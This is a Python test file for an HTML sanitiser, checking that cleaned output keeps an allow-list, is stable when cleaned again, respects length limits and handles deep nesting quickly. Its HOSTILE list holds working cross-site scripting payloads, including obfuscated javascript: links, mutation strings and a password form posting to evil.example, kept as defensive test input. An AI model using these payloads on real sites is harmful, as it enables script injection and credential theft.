"""HTML that goes out: an allow-list, the same when cleaned again, never endless."""

import time

import pytest
from hypothesis import given
from hypothesis import strategies as st

from headwater.publish.clean_html import MOST_TAGS, clean_html, html_of_text, text_of_html

HOSTILE = (
    "<script>alert(1)</script>",
    '<img src="x" onerror="alert(1)">',
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href="java\tscript:alert(1)">x</a>',
    '<a href="&#106;avascript:alert(1)">x</a>',
    '<a href="javascript://youtube.com/%0Aalert(1)">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<a href="vbscript:x">x</a>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<button formaction="javascript:alert(1)">x</button>',
    '<svg><use href="data:image/svg+xml,x"/><script>alert(1)</script></svg>',
    "<math><mtext><table><mglyph><style><!--</style>"
    "<img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<style>@import url(https://evil.example/)</style>",
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<base href="https://evil.example/">',
    '<form action="https://evil.example/"><input name="password"></form>',
    "<![CDATA[<script>alert(1)</script>]]>",
    "<!--><script>alert(1)</script>-->",
    '<p style="background:url(javascript:1)" onclick="alert(1)">x</p>',
    '<blockquote cite="javascript:alert(1)">x</blockquote>',
    '<video poster="javascript:alert(1)" src="data:video/mp4,x" onplay="alert(1)"></video>',
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<a href='//evil.example/'>x</a><img src='/entries'>",
    "<template><script>alert(1)</script></template>",
    "<object data='javascript:alert(1)'></object><embed src='javascript:alert(1)'>",
)
BAD = ("javascript", "vbscript", "data:", "evil.example", "<script", "<style", "onerror")

PIECES = (
    "<p>", "</p>", "<b>", "</b>", "<i>", "<a href='https://a.example/'>", "</a>", "<table>", "<tr>",
    "<td>", "</table>", "<pre>\n\n", "</pre>", "<ul>", "<li>", "<svg>", "<math>", "<style>", "<!--",
    "-->", "]]>", "<select>", "<template>", "<noscript>", "&amp;", "&nbsp;", "&#x0;", "<", ">", '"',
    "\u00a0", "x", "\n", "<title>", "<textarea>", "<plaintext>", "<br>", "<h1>", "<ruby><rt>",
)  # fmt: skip


@pytest.mark.parametrize("html", HOSTILE)
def test_nothing_that_runs_or_leads_elsewhere_is_left(html: str) -> None:
    cleaned = clean_html(f"<p>before</p>{html}<p>after</p>")
    assert cleaned.startswith("<p>before</p>")
    left = cleaned.lower()
    assert [bad for bad in BAD if bad in left] == []


def test_what_people_read_stays() -> None:
    html = (
        '<h2>Head</h2><p>With <em>weight</em>, a <a href="https://a.example/?x=1&amp;y=2">link</a>'
        ' and <img src="https://a.example/i.png" alt="a picture"></p><pre>  code</pre>'
        '<table><tbody><tr><td colspan="2">cell</td></tr></tbody></table>'
    )
    assert clean_html(html) == html.replace('y=2">', 'y=2" rel="noopener noreferrer nofollow">')


@given(html=st.lists(st.sampled_from(PIECES), max_size=30).map("".join))
def test_cleaning_again_changes_nothing(html: str) -> None:
    cleaned = clean_html(html)
    assert clean_html(cleaned) == cleaned


@given(html=st.text(st.characters(exclude_categories=()), max_size=60))
def test_any_text_is_cleaned_and_stays_so(html: str) -> None:
    cleaned = clean_html(html)
    assert clean_html(cleaned) == cleaned
    cleaned.encode("utf-8", "strict")


@given(html=st.lists(st.sampled_from(PIECES), max_size=40).map("".join), most=st.integers(0, 90))
def test_it_is_never_longer_than_it_may_be(html: str, most: int) -> None:
    cleaned = clean_html(html, most)
    assert len(cleaned) <= most
    assert clean_html(cleaned, most) == cleaned


@pytest.mark.parametrize(
    "piece",
    ["<div>", "<ul><li>", "<b><p>", "<table><b>", "<div><table></div></table>", "<a href=x>"],
)
def test_depth_does_not_take_for_ever(piece: str) -> None:
    started = time.process_time()
    cleaned = clean_html(piece * 100_000)
    assert time.process_time() - started < 20
    assert cleaned.count("<") <= 4 * MOST_TAGS * 2


def test_text_becomes_html_that_shows_the_same() -> None:
    assert html_of_text("1 < 2 & <b>not bold</b>") == "1 &lt; 2 &amp; &lt;b&gt;not bold&lt;/b&gt;"


def test_html_becomes_one_line_of_text() -> None:
    html = "<p>One\n <b>line</b> &amp; &lt;no&gt; tag</p><script>x</script>"
    assert text_of_html(html) == "One line & <no> tag"
